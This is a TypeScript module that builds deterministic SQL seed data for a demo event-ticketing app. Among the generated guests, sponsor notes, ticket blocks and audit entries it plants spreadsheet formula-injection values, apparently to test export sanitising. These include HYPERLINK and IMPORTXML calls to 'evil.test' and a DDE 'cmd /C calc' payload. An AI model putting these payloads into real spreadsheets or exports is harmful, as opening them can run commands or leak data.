// Deterministic demo data for `npm start`, as SQL. The same seed gives the same rows on every
// machine; every statement is INSERT OR IGNORE with fixed ids, so running it twice changes nothing.

import { createHash, pbkdf2Sync } from 'node:crypto';
import { en, Faker } from '@faker-js/faker';

export const DEMO_PASSWORD = 'voyage-demo';
const DAY = 86_400_000;

export const DEMO_WORKSPACES = [
  { id: 'wsacme', name: 'Acme Events' },
  { id: 'wsglobex', name: 'Globex' },
] as const;

export const DEMO_USERS = [
  { id: 'usacmeadmin', email: 'admin@acme.test', name: 'Avery Admin', workspace: 'wsacme', role: 'admin' },
  { id: 'usacmeorganizer', email: 'organizer@acme.test', name: 'Olivia Organizer', workspace: 'wsacme', role: 'organizer' },
  { id: 'usacmeorganizer2', email: 'organizer2@acme.test', name: 'Omar Organizer', workspace: 'wsacme', role: 'organizer' },
  { id: 'usacmeviewer', email: 'viewer@acme.test', name: 'Vera Viewer', workspace: 'wsacme', role: 'viewer' },
  { id: 'usacmestaff', email: 'staff@acme.test', name: 'Sam Staff', workspace: 'wsacme', role: 'staff' },
  { id: 'usglobexowner', email: 'owner@globex.test', name: 'Gus Globex', workspace: 'wsglobex', role: 'admin' },
] as const;

export const DEMO_EVENTS = [
  {
    id: 'evacmesummit',
    workspace: 'wsacme',
    name: 'Acme Product Summit 2026',
    slug: 'acme-product-summit-2026',
    time_zone: 'America/New_York',
    starts_at: Date.UTC(2026, 8, 17, 13), // 17 Sep 2026, 09:00 New York
    registration_from: Date.UTC(2026, 1, 2), // registrations span the March DST change
    guests: 3200,
  },
  {
    id: 'evacmegala',
    workspace: 'wsacme',
    name: 'Acme Winter Gala',
    slug: 'acme-winter-gala',
    time_zone: 'Europe/Berlin',
    starts_at: Date.UTC(2026, 11, 12, 18), // 12 Dec 2026, 19:00 Berlin
    registration_from: Date.UTC(2026, 5, 1), // spans the October DST change
    guests: 2400,
  },
  {
    id: 'evglobexexpo',
    workspace: 'wsglobex',
    name: 'Globex Expo',
    slug: 'globex-expo',
    time_zone: 'Asia/Tokyo',
    starts_at: Date.UTC(2026, 9, 5, 0),
    registration_from: Date.UTC(2026, 6, 1),
    guests: 400,
  },
] as const;

/** Cells a spreadsheet would execute or mangle, as a careless import would store them. */
export const HOSTILE_GUESTS = [
  { first_name: '=HYPERLINK("http://evil.test","click")', last_name: 'Formula', company: '=1+2' },
  { first_name: '+15551234', last_name: 'Plus', company: '+SUM(A1:A9)' },
  { first_name: '-2+3', last_name: 'Minus', company: '-cmd|" /C calc"!A0' },
  { first_name: '@SUM(1,2)', last_name: 'At', company: '@company' },
  { first_name: 'Quote "The Boss"', last_name: 'Commas, Inc.', company: 'Smith, Jones & "Partners"' },
  { first_name: 'Multi', last_name: 'Line', company: 'Line one\nLine two\r\nLine three' },
  { first_name: '🎉 Party', last_name: 'Emoji 👩‍💻', company: 'Unicode ✓ Café' },
  { first_name: 'مرحبا', last_name: 'العربية', company: 'שלום עולם' },
  { first_name: '\tTabbed', last_name: 'Tab', company: '\rCarriage' },
  { first_name: ' =1+2', last_name: 'Space', company: '\u00A0=HYPERLINK("http://evil.test")' },
  { first_name: '＝1+2', last_name: 'Fullwidth', company: '\u200B＠cmd' },
] as const;

export function hashPassword(password: string, email: string): string {
  // Salt derived from the email so the demo data is byte-for-byte deterministic.
  const salt = createHash('sha256').update(`voyage-demo-salt:${email}`).digest().subarray(0, 16);
  const hash = pbkdf2Sync(password, salt, 100_000, 32, 'sha256');
  return `pbkdf2-sha256$100000$${salt.toString('base64')}$${hash.toString('base64')}`;
}

export const sql = (value: string | number | null): string =>
  value === null ? 'NULL' : typeof value === 'number' ? String(value) : `'${value.replaceAll("'", "''")}'`;

function insertRows(table: string, columns: string[], rows: (string | number | null)[][]): string[] {
  const statements: string[] = [];
  for (let i = 0; i < rows.length; i += 200) {
    const values = rows.slice(i, i + 200).map((r) => `(${r.map(sql).join(', ')})`);
    statements.push(`INSERT OR IGNORE INTO ${table} (${columns.join(', ')}) VALUES\n${values.join(',\n')};`);
  }
  return statements;
}

export const CREATED_AT = Date.UTC(2026, 0, 5);
/** Demo registrations end here, so every demo row predates any report asked for today. */
const SEED_CUTOFF = Date.UTC(2026, 10, 20);
const TICKETS = ['General Admission', 'VIP', 'Speaker', 'Sponsor', 'Press'];
const RSVP = ['attending', 'attending', 'attending', 'maybe', 'declined', 'invited'];

export function demoGuests(event: (typeof DEMO_EVENTS)[number]): (string | number | null)[][] {
  const faker = new Faker({ locale: [en], seed: event.guests * 31 + event.id.length });
  const span = Math.min(event.starts_at - DAY, SEED_CUTOFF) - event.registration_from;
  const rows: (string | number | null)[][] = [];
  for (let i = 0; i < event.guests; i++) {
    const hostile = i < HOSTILE_GUESTS.length ? HOSTILE_GUESTS[i] : undefined;
    const first = hostile?.first_name ?? faker.person.firstName();
    const last = hostile?.last_name ?? faker.person.lastName();
    const registeredAt = event.registration_from + Math.floor(faker.number.float({ min: 0, max: 1 }) * span);
    const rsvp = faker.helpers.arrayElement(RSVP);
    const checkedIn =
      rsvp === 'attending' && event.starts_at < Date.UTC(2026, 10, 1) && faker.number.int(100) < 80
        ? event.starts_at - 3600_000 + faker.number.int(5 * 3600) * 1000
        : null;
    rows.push([
      `g${event.id.slice(2)}${String(i).padStart(5, '0')}`,
      event.id,
      first,
      last,
      faker.internet
        .email({ firstName: first.replace(/[^A-Za-z]/g, '') || 'guest', lastName: last.replace(/[^A-Za-z]/g, '') || String(i) })
        .toLowerCase(),
      hostile?.company ?? faker.company.name(),
      faker.helpers.arrayElement(TICKETS),
      rsvp,
      registeredAt,
      checkedIn,
      registeredAt,
      registeredAt,
    ]);
  }
  return rows;
}

export function demoSql(): string {
  const statements: string[] = [];
  statements.push(
    ...insertRows(
      'workspaces',
      ['id', 'name', 'created_at'],
      DEMO_WORKSPACES.map((w) => [w.id, w.name, CREATED_AT]),
    ),
  );
  statements.push(
    ...insertRows(
      'users',
      ['id', 'email', 'name', 'password_hash', 'created_at', 'is_operator'],
      // The Acme admin also operates the platform (ops switches, metrics).
      DEMO_USERS.map((u) => [
        u.id,
        u.email,
        u.name,
        hashPassword(DEMO_PASSWORD, u.email),
        CREATED_AT,
        u.id === 'usacmeadmin' ? 1 : 0,
      ]),
    ),
  );
  statements.push(
    ...insertRows(
      'memberships',
      ['workspace_id', 'user_id', 'role', 'created_at', 'updated_at'],
      DEMO_USERS.map((u) => [u.workspace, u.id, u.role, CREATED_AT, CREATED_AT]),
    ),
  );
  statements.push(
    ...insertRows(
      'events',
      ['id', 'workspace_id', 'name', 'slug', 'time_zone', 'starts_at', 'ends_at', 'created_at'],
      DEMO_EVENTS.map((e) => [
        e.id,
        e.workspace,
        e.name,
        e.slug,
        e.time_zone,
        e.starts_at,
        e.starts_at + 10 * 3600_000,
        CREATED_AT,
      ]),
    ),
  );
  for (const event of DEMO_EVENTS) {
    statements.push(
      ...insertRows(
        'guests',
        [
          'id',
          'event_id',
          'first_name',
          'last_name',
          'email',
          'company',
          'ticket_type',
          'rsvp_status',
          'registered_at',
          'checked_in_at',
          'created_at',
          'updated_at',
        ],
        demoGuests(event),
      ),
    );
  }
  statements.push(...demoSourceSql());
  return `${statements.join('\n')}\n`;
}

// ---------------------------------------------------------------------------------------------
// Source data the reports read (migration 0004): ticket types and blocks, orders and their items,
// check-ins, sponsors and leads, emails and what became of them, the activity log, the admin audit
// log. Generated from its own seeded Faker, after the guests, so the guests above stay as they were.

type Row = (string | number | null)[];

interface SourceTables {
  ticket_types: Row[];
  ticket_blocks: Row[];
  orders: Row[];
  order_items: Row[];
  check_ins: Row[];
  sponsors: Row[];
  sponsor_leads: Row[];
  email_messages: Row[];
  email_events: Row[];
  activity_log: Row[];
  audit_log: Row[];
}

export const SOURCE_COLUMNS: Record<keyof SourceTables, string[]> = {
  ticket_types: ['id', 'event_id', 'name', 'currency', 'price_cents', 'capacity', 'sort_order', 'created_at'],
  ticket_blocks: ['id', 'event_id', 'ticket_type_id', 'name', 'held_for', 'allocated', 'created_at'],
  orders: [
    'id',
    'event_id',
    'order_number',
    'buyer_name',
    'buyer_email',
    'status',
    'currency',
    'total_cents',
    'refunded_cents',
    'ticket_count',
    'placed_at',
    'created_at',
    'updated_at',
  ],
  order_items: [
    'id',
    'order_id',
    'event_id',
    'ticket_type_id',
    'ticket_block_id',
    'quantity',
    'unit_price_cents',
    'refunded_quantity',
    'refunded_cents',
    'created_at',
  ],
  check_ins: ['id', 'event_id', 'guest_id', 'scanned_at', 'entrance', 'device', 'scanned_by', 'created_at'],
  sponsors: ['id', 'event_id', 'name', 'tier', 'created_at'],
  sponsor_leads: [
    'id',
    'event_id',
    'sponsor_id',
    'guest_id',
    'full_name',
    'email',
    'company',
    'job_title',
    'rating',
    'notes',
    'scanned_by',
    'scanned_at',
    'created_at',
  ],
  email_messages: ['id', 'event_id', 'campaign', 'subject', 'recipient', 'guest_id', 'sent_at', 'created_at'],
  email_events: ['id', 'message_id', 'event_id', 'kind', 'detail', 'occurred_at', 'created_at'],
  activity_log: ['id', 'event_id', 'occurred_at', 'actor_type', 'actor_name', 'action', 'detail', 'created_at'],
  audit_log: ['id', 'workspace_id', 'event_id', 'actor_user_id', 'action', 'subject_type', 'subject_id', 'detail', 'created_at'],
};

interface TicketTypeSpec {
  name: string;
  price_cents: number;
  capacity: number;
  currency?: string;
  /** Share of order lines that buy this type, in percent. */
  weight: number;
}

interface SourceSpec {
  event: (typeof DEMO_EVENTS)[number];
  short: string;
  orderPrefix: string;
  currency: string;
  orders: number;
  ticketTypes: TicketTypeSpec[];
  blocks: { name: string; held_for: string; type: number; allocated: number }[];
  sponsors: { name: string; tier: string }[];
  campaigns: { name: string; subject: string; at: number }[];
}

const SUMMIT = DEMO_EVENTS[0];
const GALA = DEMO_EVENTS[1];

/** The guests' ticket types come first, in the guests' order, so names match. */
const SOURCE_SPECS: SourceSpec[] = [
  {
    event: SUMMIT,
    short: 'summit',
    orderPrefix: 'SUM',
    currency: 'USD',
    orders: 2600,
    ticketTypes: [
      { name: 'General Admission', price_cents: 29900, capacity: 3000, weight: 64 },
      { name: 'VIP', price_cents: 89950, capacity: 800, weight: 14 },
      { name: 'Speaker', price_cents: 0, capacity: 100, weight: 3 },
      { name: 'Sponsor', price_cents: 0, capacity: 180, weight: 5 },
      { name: 'Press', price_cents: 0, capacity: 60, weight: 2 },
      { name: 'Workshop add-on', price_cents: 14950, capacity: 600, weight: 12 },
    ],
    blocks: [
      { name: 'Sponsor block — Globex', held_for: 'Globex Corporation', type: 3, allocated: 60 },
      { name: 'Press pool', held_for: 'Accredited press', type: 4, allocated: 40 },
      { name: 'Hotel partner', held_for: 'Harbor Hotel, "conference rate"', type: 0, allocated: 150 },
      // Deliberately oversold: the report shows a negative remainder.
      { name: 'VIP hold — Board', held_for: '=HYPERLINK("http://evil.test","Board")', type: 1, allocated: 12 },
    ],
    sponsors: [
      { name: 'Globex Corporation', tier: 'platinum' },
      { name: 'Initech', tier: 'gold' },
      { name: 'Umbrella Health', tier: 'gold' },
      { name: 'Stark Industries', tier: 'silver' },
      { name: 'Café Ünïcode ✓', tier: 'silver' },
      { name: '=cmd|" /C calc"!A0', tier: 'bronze' },
    ],
    campaigns: [
      { name: 'Invitation', subject: 'You are invited: Acme Product Summit 2026', at: SUMMIT.registration_from + 9 * DAY },
      { name: 'Early-bird reminder', subject: 'Early-bird pricing ends Friday', at: Date.UTC(2026, 3, 14, 14) },
      { name: 'Agenda announcement', subject: 'The agenda is live 🎉', at: SUMMIT.starts_at - 30 * DAY },
      { name: 'Know before you go', subject: 'Badges, doors, Wi-Fi: know before you go', at: SUMMIT.starts_at - 2 * DAY },
      { name: '=Survey!A1', subject: 'How was the Summit? "2 minutes", promise', at: SUMMIT.starts_at + 2 * DAY },
    ],
  },
  {
    event: GALA,
    short: 'gala',
    orderPrefix: 'GAL',
    currency: 'EUR',
    orders: 1900,
    ticketTypes: [
      { name: 'General Admission', price_cents: 12550, capacity: 2200, weight: 66 },
      { name: 'VIP', price_cents: 35000, capacity: 500, weight: 16 },
      { name: 'Speaker', price_cents: 0, capacity: 40, weight: 2 },
      { name: 'Sponsor', price_cents: 0, capacity: 120, weight: 5 },
      { name: 'Press', price_cents: 0, capacity: 30, weight: 1 },
      { name: 'UK table seat', price_cents: 9900, capacity: 320, currency: 'GBP', weight: 10 },
    ],
    blocks: [
      { name: 'Sponsor tables', held_for: 'Gold sponsors', type: 3, allocated: 50 },
      { name: 'Press', held_for: 'Society pages', type: 4, allocated: 15 },
      { name: 'Patrons circle', held_for: 'Patrons, "founding members"', type: 1, allocated: 30 },
    ],
    sponsors: [
      { name: 'Globex Corporation', tier: 'gold' },
      { name: 'Wayne Foundation', tier: 'platinum' },
      { name: 'Brauhaus Müller GmbH', tier: 'silver' },
      { name: '+49 Catering', tier: 'bronze' },
    ],
    campaigns: [
      { name: 'Invitation', subject: 'Einladung: Acme Winter Gala', at: GALA.registration_from + 5 * DAY },
      { name: 'Reminder', subject: 'Reminder: "Don’t miss out", 🎉', at: Date.UTC(2026, 8, 1, 8) },
      { name: 'Dress code & details', subject: 'Black tie, doors at 19:00', at: GALA.starts_at - 30 * DAY },
    ],
  },
];

export const HOSTILE_NOTES = [
  '=IMPORTXML("http://evil.test","//a")',
  '-5 budget, call back',
  '+1 follow up next week',
  '@channel wants a demo',
  'Wants pricing, "ASAP"\nCall after the keynote',
  'Loved the booth 🎉👍',
  'يريد عرضا تجريبيا',
  '\tTab-led note',
];
const ENTRANCES = ['Main entrance', 'North hall', 'VIP lounge', 'Hall "B", level 2'];
const DEVICES = ['iPad-01', 'iPad-02', 'iPad-03', 'iPad-04', 'Zebra-TC52', '=DEVICE()'];
const DOOR_STAFF = ['Sam Staff', 'Dana Door', 'Lee Lanyard', 'Kim Kiosk'];
const BOUNCES = ['550 5.1.1 User unknown', '552 5.2.2 Mailbox full', '554 5.7.1 Rejected: "policy", see https://mail.test'];

/** Deterministic timestamps and picks come from the seeded Faker; nothing reads the clock. */
export function demoSourceTables(spec: SourceSpec): SourceTables {
  const { event, short } = spec;
  const faker = new Faker({ locale: [en], seed: 7_919 * spec.orders + short.length });
  const out: SourceTables = {
    ticket_types: [],
    ticket_blocks: [],
    orders: [],
    order_items: [],
    check_ins: [],
    sponsors: [],
    sponsor_leads: [],
    email_messages: [],
    email_events: [],
    activity_log: [],
    audit_log: [],
  };
  const cutoff = Math.min(event.starts_at - DAY, SEED_CUTOFF);
  const between = (from: number, to: number) => from + Math.floor(faker.number.float({ min: 0, max: 1 }) * (to - from));
  const pad = (i: number, width = 5) => String(i).padStart(width, '0');
  let activity = 0;
  const act = (at: number, actorType: string, actor: string, action: string, detail: string) => {
    out.activity_log.push([`ac${short}${pad(activity++, 6)}`, event.id, at, actorType, actor, action, detail, at]);
  };
  let audits = 0;
  const audit = (at: number, actor: string | null, action: string, subjectType: string, subjectId: string, detail: object) => {
    out.audit_log.push([
      `al${short}${pad(audits++, 4)}`,
      event.workspace,
      event.id,
      actor,
      action,
      subjectType,
      subjectId,
      JSON.stringify(detail),
      at,
    ]);
  };
  audit(CREATED_AT, 'usacmeadmin', 'event.created', 'event', event.id, { name: event.name, time_zone: event.time_zone });

  // Ticket types and blocks.
  const types = spec.ticketTypes.map((t, i) => ({ ...t, id: `tt${short}${i + 1}`, currency: t.currency ?? spec.currency }));
  for (const [i, t] of types.entries()) {
    const at = CREATED_AT + (i + 1) * 3_600_000;
    out.ticket_types.push([t.id, event.id, t.name, t.currency, t.price_cents, t.capacity, i + 1, at]);
    audit(at, 'usacmeorganizer', 'ticket_type.created', 'ticket_type', t.id, { name: t.name, price_cents: t.price_cents });
  }
  const blocks = spec.blocks.map((b, i) => ({ ...b, id: `tb${short}${i + 1}`, typeId: types[b.type]?.id ?? '' }));
  for (const [i, b] of blocks.entries()) {
    const at = CREATED_AT + DAY + i * 3_600_000;
    out.ticket_blocks.push([b.id, event.id, b.typeId, b.name, b.held_for, b.allocated, at]);
    audit(at, 'usacmeorganizer2', 'ticket_block.created', 'ticket_block', b.id, { name: b.name, allocated: b.allocated });
  }
  const priceChange = types[0];
  if (priceChange) {
    audit(event.registration_from + 40 * DAY, 'usacmeadmin', 'ticket_type.price_changed', 'ticket_type', priceChange.id, {
      from_cents: priceChange.price_cents - 5000,
      to_cents: priceChange.price_cents,
      reason: 'Early-bird ended; "regular" price',
    });
  }

  // Orders: 1–3 lines, one currency per order, some from blocks, some refunded.
  const totalWeight = types.reduce((s, t) => s + t.weight, 0);
  const pickType = () => {
    let roll = faker.number.int({ min: 0, max: totalWeight - 1 });
    for (const t of types) {
      if (roll < t.weight) return t;
      roll -= t.weight;
    }
    return types[0] as (typeof types)[number];
  };
  const blocksByType = new Map<string, (typeof blocks)[number][]>();
  for (const b of blocks) blocksByType.set(b.typeId, [...(blocksByType.get(b.typeId) ?? []), b]);
  let items = 0;
  for (let i = 0; i < spec.orders; i++) {
    const id = `o${short}${pad(i)}`;
    const placedAt = between(event.registration_from, cutoff);
    const hostile = i < HOSTILE_GUESTS.length ? HOSTILE_GUESTS[i] : undefined;
    const first = hostile?.first_name ?? faker.person.firstName();
    const last = hostile?.last_name ?? faker.person.lastName();
    const email = faker.internet
      .email({ firstName: first.replace(/[^A-Za-z]/g, '') || 'buyer', lastName: last.replace(/[^A-Za-z]/g, '') || String(i) })
      .toLowerCase();
    const lead = pickType();
    const lineTypes = [lead];
    const extra = faker.number.int({ min: 0, max: 9 });
    if (extra >= 7) {
      const other = pickType();
      if (other.currency === lead.currency && other.id !== lead.id) lineTypes.push(other);
    }
    const roll = faker.number.int({ min: 0, max: 99 });
    let status =
      roll < 80 ? 'paid' : roll < 85 ? 'pending' : roll < 89 ? 'cancelled' : roll < 94 ? 'refunded' : 'partially_refunded';
    const lines = lineTypes.map((t, n) => {
      const pool = blocksByType.get(t.id);
      const block = pool && faker.number.int({ min: 0, max: 9 }) < 4 ? faker.helpers.arrayElement(pool) : null;
      return {
        id: `oi${short}${pad(items++, 6)}`,
        type: t,
        block,
        quantity:
          t.price_cents === 0
            ? 1
            : faker.helpers.weightedArrayElement([
                { value: 1, weight: 6 },
                { value: 2, weight: 3 },
                { value: 4, weight: 1 },
              ]),
        n,
      };
    });
    const total = lines.reduce((s, l) => s + l.quantity * l.type.price_cents, 0);
    if (total === 0 && (status === 'refunded' || status === 'partially_refunded')) status = 'paid';
    const firstLine = lines[0];
    if (status === 'partially_refunded' && firstLine && lines.length === 1 && firstLine.quantity === 1) status = 'refunded';
    let refunded = 0;
    for (const l of lines) {
      let refundedQty = 0;
      if (status === 'refunded') refundedQty = l.quantity;
      else if (status === 'partially_refunded' && l.n === 0) refundedQty = lines.length > 1 ? l.quantity : 1;
      const refundedCents = refundedQty * l.type.price_cents;
      refunded += refundedCents;
      out.order_items.push([
        l.id,
        id,
        event.id,
        l.type.id,
        l.block?.id ?? null,
        l.quantity,
        l.type.price_cents,
        refundedQty,
        refundedCents,
        placedAt,
      ]);
    }
    const number = `${spec.orderPrefix}-${100001 + i}`;
    out.orders.push([
      id,
      event.id,
      number,
      `${first} ${last}`,
      email,
      status,
      lead.currency,
      total,
      refunded,
      lines.reduce((s, l) => s + l.quantity, 0),
      placedAt,
      placedAt,
      placedAt,
    ]);
    const money = `${lead.currency} ${(total / 100).toFixed(2)}`;
    act(placedAt, 'guest', `${first} ${last}`, 'order.placed', `Order ${number} · ${money}`);
    if (refunded > 0) {
      const at = Math.min(placedAt + 5 * DAY, SEED_CUTOFF);
      act(
        at,
        'staff',
        'Olivia Organizer',
        'order.refunded',
        `Refunded ${lead.currency} ${(refunded / 100).toFixed(2)} on ${number}`,
      );
      if (i % 7 === 0) {
        audit(at, 'usacmeorganizer', 'order.refunded', 'order', id, { order_number: number, refunded_cents: refunded });
      }
    }
  }

  // Registrations, RSVP changes and check-ins follow the guests.
  const guests = demoGuests(event);
  let scans = 0;
  for (const g of guests) {
    const [guestId, , first, last, email, company, ticket, rsvp, registeredAt, checkedInAt] = g as [
      string,
      string,
      string,
      string,
      string,
      string,
      string,
      string,
      number,
      number | null,
    ];
    const name = `${first} ${last}`;
    act(registeredAt, 'guest', name, 'guest.registered', `Registered with a ${ticket} ticket`);
    if (faker.number.int({ min: 0, max: 9 }) < 2) {
      act(Math.min(registeredAt + 3 * DAY, cutoff), 'guest', name, 'rsvp.changed', `RSVP changed from maybe to ${rsvp}`);
    }
    if (faker.number.int({ min: 0, max: 49 }) === 0) {
      act(Math.min(registeredAt + DAY, cutoff), 'guest', name, 'profile.updated', `Company changed to "${company}"`);
    }
    if (checkedInAt !== null) {
      const entrance = ticket === 'VIP' ? 'VIP lounge' : faker.helpers.arrayElement(ENTRANCES);
      const device = faker.helpers.arrayElement(DEVICES);
      const staff = faker.helpers.arrayElement(DOOR_STAFF);
      out.check_ins.push([`ci${short}${pad(scans++, 6)}`, event.id, guestId, checkedInAt, entrance, device, staff, checkedInAt]);
      act(checkedInAt, 'staff', staff, 'guest.checked_in', `${name} checked in at ${entrance} on ${device}`);
      // Some guests step out and come back: a second scan, later in the day.
      if (faker.number.int({ min: 0, max: 19 }) === 0) {
        const again = checkedInAt + faker.number.int({ min: 60, max: 240 }) * 60_000;
        out.check_ins.push([`ci${short}${pad(scans++, 6)}`, event.id, guestId, again, entrance, device, staff, again]);
      }
      // Sponsor booths scan about a third of the attendees.
      if (faker.number.int({ min: 0, max: 2 }) === 0) {
        const sponsorIndex = faker.number.int({ min: 0, max: spec.sponsors.length - 1 });
        const at = checkedInAt + faker.number.int({ min: 10, max: 420 }) * 60_000;
        const leadNo = out.sponsor_leads.length;
        out.sponsor_leads.push([
          `sl${short}${pad(leadNo, 6)}`,
          event.id,
          `sp${short}${sponsorIndex + 1}`,
          guestId,
          name,
          email,
          company,
          faker.person.jobTitle(),
          faker.helpers.arrayElement(['hot', 'warm', 'warm', 'cold']),
          leadNo < HOSTILE_NOTES.length
            ? (HOSTILE_NOTES[leadNo] ?? '')
            : (faker.helpers.maybe(() => faker.lorem.sentence(), { probability: 0.3 }) ?? ''),
          `Booth ${sponsorIndex + 1} · ${faker.helpers.arrayElement(['Scanner A', 'Scanner B', 'Phone app'])}`,
          at,
          at,
        ]);
      }
    }
  }
  for (const [i, sp] of spec.sponsors.entries()) {
    out.sponsors.push([`sp${short}${i + 1}`, event.id, sp.name, sp.tier, CREATED_AT + 2 * DAY + i * 60_000]);
  }

  // Emails: each campaign goes to everyone registered before it was sent (not after the cutoff).
  const byRegistration = [...guests].sort((a, b) => Number(a[8]) - Number(b[8]));
  let messages = 0;
  let outcomes = 0;
  for (const campaign of spec.campaigns) {
    if (campaign.at > SEED_CUTOFF) continue;
    audit(campaign.at - 3_600_000, 'usacmeorganizer', 'email.campaign_scheduled', 'campaign', campaign.name, {
      subject: campaign.subject,
    });
    let n = 0;
    for (const g of byRegistration) {
      if (Number(g[8]) >= campaign.at) break;
      const sentAt = campaign.at + n++ * 250;
      const messageId = `em${short}${pad(messages++, 6)}`;
      out.email_messages.push([messageId, event.id, campaign.name, campaign.subject, String(g[4]), String(g[0]), sentAt, sentAt]);
      const outcome = (kind: string, at: number, detail = '') => {
        const when = Math.min(at, SEED_CUTOFF);
        out.email_events.push([`ee${short}${pad(outcomes++, 6)}`, messageId, event.id, kind, detail, when, when]);
      };
      const roll = faker.number.int({ min: 0, max: 999 });
      if (roll < 30) outcome('bounced', sentAt + 4_000, faker.helpers.arrayElement(BOUNCES));
      else if (roll < 35)
        continue; // still deferred: no answer from the provider yet
      else {
        outcome('delivered', sentAt + 2_000);
        const engagement = faker.number.int({ min: 0, max: 999 });
        if (engagement < 460) outcome('opened', sentAt + faker.number.int({ min: 2, max: 4_000 }) * 60_000);
        if (engagement >= 996) outcome('complained', sentAt + faker.number.int({ min: 30, max: 3_000 }) * 60_000);
      }
    }
  }

  audit(event.registration_from + 20 * DAY, 'usacmeadmin', 'member.role_changed', 'user', 'usacmeorganizer2', {
    from: 'viewer',
    to: 'organizer',
  });
  audit(event.registration_from + 25 * DAY, 'usacmeorganizer2', 'guest.imported', 'event', event.id, {
    file: 'guests-final (2), "really final".xlsx',
    rows: 1200,
  });
  audit(event.registration_from + 30 * DAY, 'usacmeadmin', 'event.updated', 'event', event.id, {
    field: 'description',
    value: '=HYPERLINK("http://evil.test","Click") 🎉 مرحبا',
  });
  audit(cutoff - DAY, null, 'integration.sync_failed', 'integration', 'salesforce', { error: '-1 records synced, "timeout"' });
  return out;
}

function demoSourceSql(): string[] {
  const statements: string[] = [];
  for (const spec of SOURCE_SPECS) {
    const tables = demoSourceTables(spec);
    for (const table of Object.keys(SOURCE_COLUMNS) as (keyof SourceTables)[]) {
      statements.push(...insertRows(table, SOURCE_COLUMNS[table], tables[table]));
    }
  }
  return statements;
}

/** Only the source data, for a database whose users and guests were loaded before migration 0004. */
export function demoSourceDataSql(): string {
  return `${demoSourceSql().join('\n')}\n`;
}
